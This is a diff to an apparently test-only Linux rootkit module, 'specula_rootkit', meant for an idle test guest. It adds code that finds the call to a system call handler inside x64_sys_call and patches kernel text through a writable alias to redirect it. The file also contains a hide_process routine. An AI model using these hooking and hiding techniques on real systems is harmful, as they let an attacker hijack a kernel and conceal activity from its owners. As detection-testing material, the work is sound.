@@ -12,7 +12,12 @@
  *  - redirects system call `syscall_nr` by overwriting its sys_call_table
  *    entry (the table's address is `sys_call_table`, read from /proc/kallsyms
  *    by the test) through a writable alias of the read-only page. The hook
- *    calls the original, so the guest keeps working.
+ *    calls the original, so the guest keeps working;
+ *  - on kernels that dispatch through `x64_sys_call` (6.9, and 6.1.87+ with the
+ *    BHI backport), where the table is no longer used, also rewrites the direct
+ *    call or tail jump to `handler` (the system call's `__x64_sys_*` function) inside
+ *    `x64_sys_call` to call its own hook instead, so that the call is redirected
+ *    for real.
  *
  * It takes no locks it cannot reach (tasklist_lock and module_mutex are not
  * exported): the test guest is idle while it loads. It cannot be unloaded.
@@ -32,6 +37,14 @@ static unsigned long table_address;
 module_param_named(sys_call_table, table_address, ulong, 0);
 MODULE_PARM_DESC(sys_call_table, "address of sys_call_table (from /proc/kallsyms)");
 
+static unsigned long dispatch_address;
+module_param_named(x64_sys_call, dispatch_address, ulong, 0);
+MODULE_PARM_DESC(x64_sys_call, "address of x64_sys_call (0: the kernel has none)");
+
+static unsigned long handler_address;
+module_param_named(handler, handler_address, ulong, 0);
+MODULE_PARM_DESC(handler, "address of the system call's __x64_sys_* function");
+
 static int syscall_nr = -1;
 module_param(syscall_nr, int, 0);
 MODULE_PARM_DESC(syscall_nr, "system call to redirect (-1: none)");
@@ -42,6 +55,47 @@ static syscall_fn_t original;
 static long specula_rootkit_hook(const struct pt_regs *regs)
 {
 	return original(regs);
+}
+
+static long specula_rootkit_dispatch_hook(const struct pt_regs *regs)
+{
+	return ((syscall_fn_t)handler_address)(regs);
+}
+
+/* Writes `len` bytes at kernel text address `at` through a writable alias. */
+static int poke_text(unsigned long at, const void *bytes, size_t len)
+{
+	struct page *pages[2] = { virt_to_page((void *)at), virt_to_page((void *)(at + len - 1)) };
+	int count = pages[0] == pages[1] ? 1 : 2;
+	void *alias = vmap(pages, count, VM_MAP, PAGE_KERNEL);
+
+	if (!alias)
+		return -ENOMEM;
+	memcpy(alias + offset_in_page(at), bytes, len);
+	vunmap(alias);
+	return 0;
+}
+
+/* Finds the direct call (or tail jump) to `handler` in x64_sys_call and points it at the hook. */
+static int redirect_dispatch(void)
+{
+	const u8 *code = (const u8 *)dispatch_address;
+	int i;
+
+	for (i = 0; i < 16384; i++) {
+		s32 rel;
+		unsigned long next = dispatch_address + i + 5;
+
+		/* `call handler`, or `jmp handler` where the compiler made it a tail call. */
+		if (code[i] != 0xe8 && code[i] != 0xe9)
+			continue;
+		memcpy(&rel, code + i + 1, 4);
+		if (next + (long)rel != handler_address)
+			continue;
+		rel = (s32)((long)specula_rootkit_dispatch_hook - (long)next);
+		return poke_text(dispatch_address + i + 1, &rel, 4);
+	}
+	return -ENOENT;
 }
 
 static int hide_process(void)
@@ -86,6 +140,11 @@ static int __init specula_rootkit_init(void)
 	}
 	if (syscall_nr >= 0) {
 		err = redirect_syscall();
+		if (err)
+			return err;
+	}
+	if (dispatch_address && handler_address) {
+		err = redirect_dispatch();
 		if (err)
 			return err;
 	}
